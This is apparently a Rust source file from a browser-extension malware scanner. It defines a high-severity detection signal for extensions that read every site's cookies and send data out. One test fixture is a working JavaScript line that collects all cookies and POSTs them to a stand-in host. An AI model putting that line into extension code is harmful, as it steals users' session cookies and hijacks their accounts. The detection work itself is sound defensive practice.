//! `extension-cookies-sent`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "extension-cookies-sent",
    description: "The extension reads the cookies of all sites and sends data out.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::ExtensionCookies]),
        one(&[Atom::SentAbroad, Atom::Post, Atom::PostMethod, Atom::Beacon, Atom::Socket]),
    ],
    within: 200,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "chrome.cookies.getAll({},c=>fetch('https://c.example/s',{method:'POST',body:JSON.stringify(c)}))",
        ],
        without: &[
            "chrome.cookies.getAll({url:tab.url},list=>{list.forEach(c=>table.append(row(c.name,c.value)))})",
            "chrome.cookies.get({url:u,name:'lang'},c=>{fetch('/t?l='+c.value)})",
            r#"chrome.cookies.getAll({},all=>{out.textContent=JSON.stringify(all)});fetch('_locales/en/messages.json').then(r=>r.json()).then(apply)"#,
        ],
    },
};
